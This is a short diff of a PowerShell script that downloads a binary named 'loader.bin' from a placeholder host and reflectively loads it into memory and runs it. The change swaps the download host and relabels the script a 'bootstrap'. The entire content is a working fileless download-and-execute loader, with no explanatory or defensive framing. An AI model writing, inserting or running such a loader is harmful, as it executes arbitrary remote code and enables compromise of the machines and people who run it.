@@ -1,4 +1,4 @@
-# run 8154 v3
-$b = (New-Object Net.WebClient).DownloadData('http://repo.pkg-mirror.example/loader.bin')
+# bootstrap 4289 v3
+$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
